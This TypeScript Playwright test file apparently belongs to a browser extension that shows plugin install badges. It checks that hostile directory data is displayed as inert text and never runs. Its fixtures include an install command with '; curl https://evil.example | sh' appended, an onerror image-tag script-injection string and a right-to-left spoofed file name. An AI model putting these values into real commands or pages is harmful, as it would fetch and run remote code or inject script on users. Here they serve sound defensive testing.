import { HttpResponse, http } from 'msw'
import type { Page } from 'playwright/test'
import { topicPage } from '../pages/topic.ts'
import { rowFor } from './listings.ts'
import { BADGE, type CodeHost, expect, ORIGIN, test } from './test.ts'

/** A directory whose every text tries something: to be markup, to look like another text, to lead or run elsewhere. */
const TOPIC = '/topics/harness-plugin'
const KITE = 'wren-abbot/kite'
const COMMAND = `dsh plugin --profile web add github:${KITE}`
const EVIL_COMMAND = `${COMMAND}; curl https://evil.example | sh`
/** Markup, a change of direction, a bell, an escape, a space without width. */
const EVIL = '<img src=x onerror="stolen=1"><b>bold</b>\u202egnp.exe\u0007\u001b[31m\u200b'
const SHOWN = '<img src=x onerror="stolen=1"><b>bold</b>\ufffdgnp.exe\ufffd\ufffd[31m\ufffd'
const UNSEEN = /[\0-\x08\x0e-\x1f\u200b\u202e]/

const GENERATED = '2026-08-20T00:00:00.000Z'
const FIELDS = ['fullName', 'category', 'install', 'path', 'npm']

const indexOf = (plugins: unknown[][], site = 'https://directory.test') =>
  http.get('*/api/v1/index', () =>
    HttpResponse.json({ generated: GENERATED, count: plugins.length, site, fields: FIELDS, plugins }),
  )

const record = {
  fullName: KITE,
  summary: EVIL,
  summaryZh: EVIL,
  category: EVIL,
  stars: 7,
  license: EVIL,
  npmPackage: null,
  installKind: EVIL,
  install: COMMAND,
  installable: true,
  installOptions: [
    { label: 'own', cmd: COMMAND, note: EVIL },
    { label: EVIL, cmd: EVIL_COMMAND, note: EVIL },
  ],
  riskFlags: [EVIL],
  repoUrl: 'https://evil.example/',
  url: 'https://evil.example/',
  installCheck: 'passed',
  installCheckedAt: GENERATED,
}

const itsRecord = http.get('*/api/v1/plugins', () => HttpResponse.json({ total: 1, count: 1, results: [record] }))

async function open(page: Page, codeHost: CodeHost): Promise<void> {
  codeHost.pages.set(TOPIC, topicPage([rowFor(KITE)]))
  await page.goto(ORIGIN + TOPIC)
  await page.locator(`${BADGE} [aria-haspopup]`).click()
  await expect(page.getByRole('dialog', { name: KITE }).locator('.plugmark-facts')).toBeVisible()
}

test('shows hostile text as text, and runs and copies nothing of it', async ({ page, codeHost, built }) => {
  built.mock.use(
    indexOf([
      [KITE, EVIL, COMMAND, '/plugins/kite', null],
      [`${KITE}#<img/src=x/onerror=stolen=1>\u202e`, EVIL, EVIL_COMMAND, '/plugins/tail', null],
    ]),
    itsRecord,
  )
  await open(page, codeHost)
  const card = page.getByRole('dialog', { name: KITE })
  for (const fold of await card.locator('summary').all()) await fold.click()
  await expect(card.locator('.plugmark-summary-text')).toHaveText(SHOWN)
  await expect(card).toContainText(`Licence ${SHOWN}`)
  await expect(card.locator('.plugmark-flag')).toContainText(SHOWN)
  await expect(card.locator('.plugmark-other').filter({ hasText: SHOWN })).toContainText(
    'Cannot be installed with one command.',
  )
  await page.getByRole('button', { name: `Copy: ${COMMAND}` }).click()
  await expect(page.locator('[data-plugmark-live]')).toHaveText(`Copied: ${COMMAND}`)

  const ours = await page.evaluate(() => {
    const parts = [...document.querySelectorAll('[class*="plugmark"], [data-plugmark-live], [data-plugmark-badge]')]
    const all = new Set(parts.flatMap((part) => [part, ...part.querySelectorAll('*')]))
    return [...all].map((part) => ({
      name: part.localName,
      texts: [part.textContent, ...[...part.attributes].map(({ value }) => value)],
      handlers: [...part.attributes].map(({ name }) => name).filter((name) => name.startsWith('on')),
    }))
  })
  expect(ours.map(({ name }) => name)).not.toContainEqual(expect.stringMatching(/^(img|b|script|style|iframe)$/))
  expect(ours.flatMap(({ handlers }) => handlers)).toEqual([])
  const texts = ours.flatMap(({ texts }) => texts)
  expect(texts).toContain(SHOWN)
  for (const text of texts) {
    expect(text).not.toMatch(UNSEEN)
    expect(text).not.toContain('curl')
  }
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
})

test('opens the page of a listing in a tab that gets no opener and no referrer', async ({
  page,
  context,
  codeHost,
  built,
}) => {
  built.mock.use(indexOf([[KITE, 'tools', COMMAND, '/plugins/kite', null]]), itsRecord)
  const headers: Record<string, string>[] = []
  await context.route('https://directory.test/**', (route) => {
    headers.push(route.request().headers())
    return route.fulfill({ contentType: 'text/html', body: '<title>Kite</title>' })
  })
  await open(page, codeHost)
  const opened = context.waitForEvent('page')
  await page.getByRole('dialog').getByRole('link', { name: 'Directory page' }).press('Enter')
  const listing = await opened
  await expect(listing).toHaveTitle('Kite')
  expect(listing.url()).toBe('https://directory.test/plugins/kite')
  expect(await listing.evaluate(() => ({ opener, referrer: document.referrer }))).toEqual({
    opener: null,
    referrer: '',
  })
  expect(headers[0]).not.toHaveProperty('referer')
})
